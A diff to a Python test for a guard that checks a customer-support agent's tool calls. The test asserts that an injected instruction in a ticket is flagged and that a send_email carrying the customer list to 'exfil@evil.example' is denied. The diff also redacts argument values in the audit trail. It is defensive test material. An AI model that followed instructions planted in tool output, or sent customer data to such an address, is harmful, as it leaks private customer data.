@@ -26,7 +26,10 @@ def test_the_support_agent_blocks_the_injection_and_confirms_the_refund() -> Non
     assert "  ALLOW    lookup_order(order_id='A123')\n" in out
     assert "untrusted instruction found in tool:get_ticket#s1 $.description" in out
     assert "  DENY     send_email(to='exfil@evil.example', subject='Customers', body='(the list)')\n" in out
-    assert "ARG_CONSTRAINT: argument 'to' of tool 'send_email' is 'exfil@evil.example'" in out
+    # The trail quotes argument values only as hashes (the call line above comes from the agent's messages).
+    assert "ARG_CONSTRAINT: argument 'to' of tool 'send_email' is '<redacted:" in out
+    assert "but must equal parameter customer_email ('ann@example.com')." in out
+    assert "argument values appear in the trail only as <redacted:SHA8>" in out
     assert "  CONFIRM  issue_refund(order_id='A123', amount=45.0, reason='kettle arrived broken')\n" in out
     assert "  |   amount    from tool:lookup_order#s0 $.total (derived)\n" in out
     assert "  ALLOW    issue_refund(order_id='A123', amount=45.0, reason='kettle arrived broken')\n" in out
